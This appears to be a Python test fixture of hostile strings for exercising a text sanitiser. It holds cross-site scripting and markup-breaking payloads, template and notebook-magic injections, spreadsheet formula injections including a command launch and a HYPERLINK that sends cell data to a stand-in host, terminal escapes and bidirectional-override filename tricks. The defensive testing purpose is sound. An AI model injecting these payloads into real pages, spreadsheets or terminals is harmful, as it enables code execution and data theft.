"""Texts that do harm if they are treated as anything but text, each named by its kind.

A payload that runs sets `window.pwned`, requests `http://payload.invalid` or opens a dialog.
"""

from collections.abc import Mapping

MARK = "window.pwned"

PAYLOADS: Mapping[str, str] = {
    # HTML
    "html script": "<script>window.pwned=1</script>",
    "html script of another place": "<script src=http://payload.invalid/x.js></script>",
    "html script in capitals": "<SCRIPT>window.pwned=1</SCRIPT>",
    "html script in halves": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "html picture": "<img src=x onerror=window.pwned=1>",
    "html picture of another place": "<img src=http://payload.invalid/x.png>",
    "html tag without an end": "<img src=x onerror=window.pwned=1",
    "html frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "html refresh": '<meta http-equiv=refresh content="0;url=http://payload.invalid/">',
    "html base": "<base href=http://payload.invalid/>",
    "html form": "<form action=http://payload.invalid/><input name=x autofocus></form>",
    "html autofocus": "<input autofocus onfocus=window.pwned=1>",
    "html details": "<details open ontoggle=window.pwned=1>x</details>",
    "html object": "<object data=http://payload.invalid/x></object>",
    "html link of a style": "<link rel=stylesheet href=http://payload.invalid/x.css>",
    "html dialog": "<body onload=alert(1)>",
    "html template": "<template><script>window.pwned=1</script></template>",
    "html heading": "</h1><h2 id=noi-dung>x</h2>",
    "html table": "</td></tr></table><script>window.pwned=1</script>",
    "html main": "</main></div></body></html><script>window.pwned=1</script>",
    # texts that end the element or attribute around them
    "breaker title": "</title><script>window.pwned=1</script>",
    "breaker style": "</style><script>window.pwned=1</script>",
    "breaker script": "</script><script>window.pwned=1</script>",
    "breaker textarea": "</textarea><script>window.pwned=1</script>",
    "breaker svg": "</text></svg><script>window.pwned=1</script>",
    "breaker double quote": '"><img src=x onerror=window.pwned=1>',
    "breaker single quote": "'><img src=x onerror=window.pwned=1>",
    "breaker double attribute": '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "breaker single attribute": "' onfocus='window.pwned=1' autofocus x='",
    "breaker bare attribute": "x onfocus=window.pwned=1 autofocus",
    "breaker backquote": "`><img src=x onerror=window.pwned=1>",
    "breaker comment": "--><script>window.pwned=1</script>",
    "opener comment": "<!--",
    "opener comment and script": "<!--<script>",
    "breaker cdata": "]]><script>window.pwned=1</script>",
    "opener cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "opener processing": "<?xml-stylesheet href='http://payload.invalid/x.css'?>",
    # texts that become markup when they are unescaped, or escaped twice
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "entities twice": "&amp;lt;b&amp;gt; &amp; &nbsp; &quot;",
    "entities in digits": "&#60;script&#62;window.pwned=1&#x3c;/script&#x3e;",
    "entities without an end": "&ltscript&gtwindow.pwned=1",
    "escapes of an address": "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "escapes of a script": "\\u003cscript\\u003ewindow.pwned=1\\x3c/script\\x3e",
    "escapes of a style": "\\3c script\\3e window.pwned=1",
    # markup that browsers repair into other markup
    "mutation noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "mutation mathematics": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "mutation svg": "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "mutation select": "<select><script>window.pwned=1</script></select>",
    "mutation foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'>",
    # links
    "link script": "javascript:window.pwned=1//",
    "link script in html": "<a href=javascript:window.pwned=1>x</a>",
    "link data": "data:text/html,<script>window.pwned=1</script>",
    "link bare": "http://payload.invalid/x?a=1&b=2#c",
    "link mail": "mailto:x@payload.invalid",
    # SVG and CSS
    "svg onload": "<svg onload=window.pwned=1>",
    "svg animation": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "svg use": '<use href="http://payload.invalid/x.svg#a"/>',
    "svg reference": '<a href="#x" id="y" style="fill: url(#z)">',
    "svg of matplotlib": 'font-size: 11px; font-family: x; version="1.1" id="text_1" href="#x',
    "css rule": "}*{background:url(http://payload.invalid/x)}",
    "css expression": "x;background:url(http://payload.invalid/x);color:expression(pwned=1)",
    "css import": "@import 'http://payload.invalid/x.css';",
    "css colour": "a: #1d2430 fill: #0072b2; url(#a) b",
    # Markdown
    "markdown link": "[x](javascript:window.pwned=1)",
    "markdown picture": "![x](http://payload.invalid/x.png)",
    "markdown reference": "[x][1] [1]: http://payload.invalid/x",
    "markdown autolink": "<http://payload.invalid/x>",
    "markdown heading": "# Tiêu đề",
    "markdown emphasis": "**đậm** _nghiêng_ ~~bỏ~~",
    "markdown code": "```<script>window.pwned=1</script>``` `x`",
    "markdown rule": "---",
    "markdown table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "markdown list": "* một\n* hai",
    "markdown quote": "> trích",
    "markdown escape": r"\# \* \<b\>",
    # templates, formats, mathematics, code
    "jinja expression": "{{ 7*7 }} {{ self.__init__.__globals__ }}",
    "jinja statement": "{% for x in (1,2) %}x{% endfor %} {# chú thích #}",
    "python format": "{0.__class__} {label} {place} {} }{",
    "python percent": "%s %d %(label)s 100%",
    "python shell": "!touch pwned",
    "python magic": "%run pwned.py",
    "python cell magic": "%%javascript\nwindow.pwned=1",
    "python string": "\"\"\"'''\\",
    "mathematics": r"$\frac{1}{0}$ $x^2$",
    "mathematics without an end": r"5$ và \href{javascript:window.pwned=1}{x}",
    "notebook": '{"cell_type": "code", "source": "window.pwned=1", "outputs": []}',
    # spreadsheets
    "formula link": '=HYPERLINK("http://payload.invalid/?"&A1;"x")',
    "formula command": "=cmd|'/c calc'!A0",
    "formula plus": "+1+1",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)",
    "formula full-width": "＝1+1",
    "formula behind a separator": ";=1+1",
    "formula behind a comma": "x,=1+1,y",
    "formula behind a quote": '"=1+1',
    "formula behind a comma and a quote": 'x,"=1+1,y',
    "formula behind a blank": "x, =1+1",
    "formula in quotes": '";=1+1;"',
    "formula on the next line": "x\n=1+1",
    "cells of a file": 'a;b,c\td"e'.replace("\t", " "),
    # terminals
    "markup bold": "[bold red]x[/bold red]",
    "markup link": "[link=http://payload.invalid/]x[/link]",
    "markup end": "x [/] [/bold] y",
    "markup emoji": "tỷ lệ :100: :warning: x",
    "terminal words": "\\x1b[31m ^[[2J \\033]8;;http://payload.invalid",
    # Unicode
    "unicode full-width": "＜script＞window.pwned=1＜/script＞",
    "unicode small": "﹤img src=x onerror=window.pwned=1﹥",
    "unicode scripts": "中文 العربية ไทย",
    "unicode emoji": "👩‍👩‍👧".replace("\u200d", "") + " 🇻🇳",
    "unicode marks": "x" + "\u0301" * 24,
    "unicode private": "\ue000\uffff\U0010ffff x",
    "long word": "w" * 300,
    "long words": "dài " * 60 + "hết",
}

# invisible characters, which are removed when the data is read
CLEANED: Mapping[str, tuple[str, str]] = {
    "right-to-left override": ("a\u202egpj.exe", "agpj.exe"),
    "isolates": ("\u2066a\u2069\u2067b\u2069\u2068c", "abc"),
    "embeddings": ("\u202aa\u202c\u202bb\u202c\u202dc\u061c\u200f", "abc"),
    "zero width": (
        "<scr\u200bipt>window.pwned=1</scr\u2060ipt>",
        "<script>window.pwned=1</script>",
    ),
    "soft hyphen before a formula": ("\u00ad=1+1", "=1+1"),
    "mark of a byte order": ("\ufeff=1+1", "=1+1"),
    "tab before a formula": ("\t=1+1", "=1+1"),
    "carriage return before a formula": ("\r=1+1", "=1+1"),
    "blank that does not break": ("\u00a0=1+1", "=1+1"),
}

# control characters, which are refused when the data is read
REFUSED: Mapping[str, str] = {
    "terminal colour": "x \x1b[31mđỏ\x1b[0m",
    "terminal title": "\x1b]0;pwned\x07x",
    "terminal link": "\x1b]8;;http://payload.invalid\x1b\\x\x1b]8;;\x1b\\",
    "terminal clear": "\x1b[2J\x1b[Hx",
    "terminal of one byte": "x \x9b31m",
    "bell": "x\x07",
    "backspace": "x\x08y",
    "delete": "x\x7fy",
    "next line": "x\x85y",
    "form feed": "x\x0cy",
    "unicode lines": "a\u2028b\u2029c",
    "tab": "x\t=1+1",
    "replacement": "x\ufffd",
}


def harmless(text: str) -> str:
    """Replace every sign by one without a meaning, so that the text keeps its lines and words.

    Clauses end where they did, for the public edition leaves out what names a sensitive indicator.

    Examples
    --------
    >>> harmless("<b>a-1 đ</b>"), harmless("(b(a-1 đ(/b;")
    ('÷b÷a-1 đ÷÷b÷', '¤b¤a-1 đ¤¤b.')
    """
    neutral = "¤¦¬±×÷"[sum(map(ord, text)) % 6]
    signs = {sign: neutral for sign in text if not (sign.isalnum() or sign.isspace())}
    return text.translate(str.maketrans({**signs, "-": "-", **dict.fromkeys(".,:;", ".")}))
